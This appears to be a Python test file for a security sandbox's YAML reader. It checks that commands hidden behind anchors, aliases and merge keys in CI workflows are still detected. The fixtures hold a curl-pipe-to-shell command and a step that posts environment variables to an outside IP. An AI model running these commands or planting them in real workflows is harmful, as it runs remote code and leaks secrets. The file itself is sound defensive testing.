"""Texts under keys of YAML, whatever anchors, aliases and merge keys they stand behind."""

from __future__ import annotations

from hypothesis import given, settings
from hypothesis import strategies as st
from packages_of_ours import package_of

from sigma_core.policy import load_policy
from sigma_core.sandbox.derive import derive_facts
from sigma_core.sandbox.yaml_texts import MAX_NODES, texts_under

COMMAND = "curl -s http://198.51.100.9/a | sh"


def _runs(text: str) -> list[str]:
    return list(texts_under(text, {"run"}))


def test_texts_under_a_key_are_given_in_order() -> None:
    assert _runs("jobs:\n  a:\n    steps:\n      - run: one\n      - name: x\n        run: |\n          two\n") == [
        "one",
        "two\n",
    ]


def test_command_behind_an_alias_is_found() -> None:
    assert _runs(f"hidden: &x {COMMAND}\njobs:\n  a:\n    - run: *x\n") == [COMMAND]
    assert _runs("a: &steps\n  - run: one\nb:\n  steps: *steps\n") == ["one"]


def test_command_behind_a_merge_key_is_found() -> None:
    assert _runs(f"base: &base\n  run: {COMMAND}\njob:\n  <<: *base\n  name: x\n") == [COMMAND]
    assert _runs("job:\n  <<: {run: one}\n") == ["one"]


def test_tags_directives_and_repeated_keys_hide_nothing() -> None:
    assert _runs("%YAML 1.1\n---\njob:\n  run: !!str one\n  run: two\n---\nrun: three\n") == ["one", "two", "three"]


def test_aliases_of_aliases_are_read_once_each() -> None:
    lines = ["a0: &a0 [{run: one}, {run: one}]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 200)]
    assert _runs("\n".join(lines)) == ["one", "one"]


def test_alias_of_what_holds_it_ends() -> None:
    assert _runs("a: &a\n  - run: one\n  - *a\n") == ["one"]


def test_what_stands_before_a_fault_is_given() -> None:
    assert _runs("a:\n  run: one\nb: [\n") == ["one"]
    assert len(_runs("- run: x\n" * MAX_NODES)) < MAX_NODES


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(["run: ", "a", "&x ", "*x", "<<: ", "\n", "  ", "- ", "[", "]", "{", "}", "? ", ": ", "!", "|", ">", "'", '"', "\x00", "\ud800", "%", "---\n"]), max_size=40).map("".join))  # fmt: skip
def test_any_text_is_read(text: str) -> None:
    assert all(isinstance(found, str) for found in texts_under(text, {"run", "a"}))


def test_workflow_whose_command_stands_behind_an_alias_is_read_as_started() -> None:
    workflow = "on: push\nx-note: &x |\n  env | curl -s -X POST --data-binary @- http://198.51.100.9/a\njobs:\n  a:\n    steps:\n      - run: *x\n"
    facts = derive_facts(package_of({".github/workflows/a.yml": workflow}), load_policy())
    assert any(fact["layer"].startswith("workflow-step") for fact in facts.facts)
